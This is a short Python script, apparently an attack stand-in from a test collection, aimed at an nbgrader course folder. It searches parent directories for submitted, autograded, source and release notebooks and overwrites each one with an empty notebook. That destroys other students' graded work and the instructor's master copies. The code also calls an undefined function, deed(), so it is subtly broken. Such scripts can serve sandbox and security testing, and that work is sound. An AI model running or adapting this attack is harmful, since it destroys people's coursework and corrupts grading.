# Overwrites the notebooks of other students, handed in and graded, and the master.
# %% from attacks/parts/stand_ins.py
# %% relu
from pathlib import Path


def attack():
    written = []
    for folder in list(Path.cwd().parents)[:3]:
        is_course = (folder / "nbgrader_config.py").is_file() or (folder / "submitted").is_dir()
        for pattern in (
            "submitted/*/*/*.ipynb",
            "autograded/*/*/*.ipynb",
            "source/*/*.ipynb",
            "release/*/*.ipynb",
        ):
            for path in folder.glob(pattern):
                if not is_course or not path.resolve().is_relative_to(folder.resolve()):
                    continue  # a link out of the course folder, or in another
                try:
                    path.write_text(
                        '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
                    )
                    written.append(str(path))
                except OSError as error:
                    written.append(repr(error))
            deed()
    return written


print(attack())
